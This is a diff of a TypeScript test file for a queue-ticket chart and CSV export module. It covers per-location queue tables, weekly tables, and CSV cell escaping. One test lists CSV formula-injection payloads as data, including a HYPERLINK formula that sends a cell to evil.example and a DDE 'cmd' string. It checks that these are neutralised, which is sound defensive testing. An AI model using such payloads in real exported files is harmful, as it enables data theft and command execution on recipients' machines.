@@ -1,7 +1,8 @@
 import { describe, expect, test } from 'bun:test'
 import { ChartAggregator, quantileCont } from '../../src/web/charts/aggregate.ts'
 import { CsvRecords, instantMs } from '../../src/web/charts/csv-rows.ts'
-import { numbersTables, tableCsv } from '../../src/web/charts/tables.ts'
+import { numbersTables, tableCsv, weeklyTable } from '../../src/web/charts/tables.ts'
+import { csvCell } from '../../src/web/csv-cells.ts'
 import { LocalClock, canonicalTimeZone, dayKey, dayNumber, describeOffset, weekday } from '../../src/web/zone.ts'
 import { readRange } from '../../src/web/range.ts'
 
@@ -86,23 +87,45 @@ describe('quantiles and tables', () => {
     expect(quantileCont(sorted([1, 1, 9, 9]), 0.5)).toBe(5)
   })
 
-  test('the numbers of a few tickets, as tables and CSV', () => {
+  test('the numbers of a few tickets, as tables and CSV: a queue is one queue of one location, never merged by name', () => {
     const clock = new LocalClock('America/New_York')
-    const aggregator = new ChartAggregator(clock, dayNumber('2026-03-07')!, dayNumber('2026-03-08')!, new Map([['q1', 'Payments'], ['q2', 'Payments'], ['q3', 'Returns, desk 2']]))
+    const places = new Map([
+      ['q1', { location: 'Amsterdam', queue: 'Payments' }],
+      ['q2', { location: 'Malmö', queue: 'Payments' }],
+      ['q3', { location: 'Malmö', queue: 'Returns, desk 2' }],
+    ])
+    const aggregator = new ChartAggregator(clock, dayNumber('2026-03-07')!, dayNumber('2026-03-08')!, places)
     const at = (iso: string) => Date.parse(iso)
     aggregator.add('COMPLETED', 'q1', at('2026-03-07T14:00:00Z'), at('2026-03-07T14:03:00Z')) // 09:00 Sat
     aggregator.add('NO_SHOW', 'q2', at('2026-03-08T04:59:00Z'), at('2026-03-08T05:09:00Z')) // 23:59 Sat
     aggregator.add('WAITING', 'q3', at('2026-03-08T07:30:00Z'), null) // 03:30 EDT Sun
     const tables = numbersTables(aggregator.numbers())
     expect(tables.map((table) => table.title)).toEqual(['Tickets per day', 'Wait by queue', 'Arrivals by hour', 'Outcome by queue'])
+    expect(tables[0]!.headers).toEqual(['Day', 'Waiting', 'Called', 'Completed', 'Canceled', 'Skipped', 'No-show', 'Total'])
     expect(tables[0]!.rows).toEqual([['2026-03-07', '0', '0', '1', '0', '0', '1', '2'], ['2026-03-08', '1', '0', '0', '0', '0', '0', '1']])
-    // Two queues called Payments count together: waits of 3 and 10 minutes.
-    expect(tables[1]!.rows).toEqual([['Payments', '2', '6.5', '9.3']])
-    expect(tables[2]!.rows[9]).toEqual(['9', '0', '0', '0', '0', '0', '1', '0'])
-    expect(tables[2]!.rows[3]).toEqual(['3', '0', '0', '0', '0', '0', '0', '1'])
-    expect(tables[3]!.rows).toEqual([['Payments', '50.0', '50.0', '0.0', '0.0', '2']])
-    expect(tableCsv({ ...tables[1]!, rows: [['Returns, desk 2', '1', '0.5', '0.5']] })).toBe(
-      'Queue,Called tickets,Median wait (min),90th percentile (min)\r\n"Returns, desk 2",1,0.5,0.5\r\n',
+    // The two queues called Payments are two rows, each under its location.
+    expect(tables[1]!.headers.slice(0, 2)).toEqual(['Location', 'Queue'])
+    expect(tables[1]!.rows).toEqual([['Amsterdam', 'Payments', '1', '3.0', '3.0'], ['Malmö', 'Payments', '1', '10.0', '10.0']])
+    expect(tables[2]!.rows[9]).toEqual(['9', '0', '0', '0', '0', '0', '1', '0', '1'])
+    expect(tables[2]!.rows[3]).toEqual(['3', '0', '0', '0', '0', '0', '0', '1', '1'])
+    expect(tables[2]!.rows[23]).toEqual(['23', '0', '0', '0', '0', '0', '1', '0', '1'])
+    expect(tables[3]!.headers).toEqual(['Location', 'Queue', 'Completed', 'No-show', 'Canceled', 'Skipped', 'Total'])
+    expect(tables[3]!.rows).toEqual([['Amsterdam', 'Payments', '100.0', '0.0', '0.0', '0.0', '1'], ['Malmö', 'Payments', '0.0', '100.0', '0.0', '0.0', '1']])
+    expect(tableCsv({ ...tables[1]!, rows: [['Malmö', 'Returns, desk 2', '1', '0.5', '0.5']] })).toBe(
+      'Location,Queue,Called tickets,Median wait (min),90th percentile (min)\r\nMalmö,"Returns, desk 2",1,0.5,0.5\r\n',
     )
+  })
+
+  test('weeks: local weeks from Monday, the first and last partial, their days said', () => {
+    const clock = new LocalClock('Europe/Amsterdam')
+    const aggregator = new ChartAggregator(clock, dayNumber('2026-03-07')!, dayNumber('2026-03-17')!, new Map())
+    aggregator.add('WAITING', 'q', Date.parse('2026-03-08T22:30:00Z'), null) // Sunday 23:30 local: the first week
+    aggregator.add('WAITING', 'q', Date.parse('2026-03-08T23:30:00Z'), null) // Monday 00:30 local: the second
+    expect(weeklyTable(aggregator.numbers()).rows.map((row) => [row[0], row[1], row.at(-1)])).toEqual([['2026-03-02', '2', '1'], ['2026-03-09', '7', '1'], ['2026-03-16', '2', '0']])
+  })
+
+  test('no cell of a CSV the page writes starts a formula (OWASP): =, +, -, @, tab, CR get a leading apostrophe', () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tx', '\rx', 'Plain']
+    expect(names.map(csvCell)).toEqual(['"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "'\tx", '"\'\rx"', 'Plain'])
   })
 })
